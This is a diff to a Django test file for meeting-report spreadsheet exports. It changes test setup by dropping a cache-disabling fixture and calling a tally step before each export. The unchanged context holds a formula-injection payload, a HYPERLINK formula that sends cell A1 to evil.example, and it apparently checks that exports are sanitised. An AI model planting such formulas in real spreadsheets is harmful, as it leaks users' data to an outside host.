@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 
 from meetings.models import Meeting, Participant
 from participants.models import AccessLog, Role
-from reports import exports
+from reports import exports, tallies
 from reports.figures import Period
 from reports.selectors import STEERING_GROUP, meetings_for_export
 
@@ -27,11 +27,6 @@ pytestmark = pytest.mark.django_db
 MARCH = {"date_from": "2026-03-01", "date_to": "2026-03-31"}
 COL = {key: i for i, key in enumerate(exports.MEETING_COLUMN_KEYS)}
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")'
-
-
-@pytest.fixture(autouse=True)
-def no_report_cache(settings):
-    settings.REPORTS_CACHE_SECONDS = 0
 
 
 @pytest.fixture
@@ -54,6 +49,7 @@ def manager(rarea):
 
 
 def _export(client, what, fmt, **params):
+    tallies.fold()
     response = client.get(reverse("reports:export", args=[what, fmt]), {**MARCH, **params})
     assert response.status_code == 200, response.status_code
     assert isinstance(response, StreamingHttpResponse)
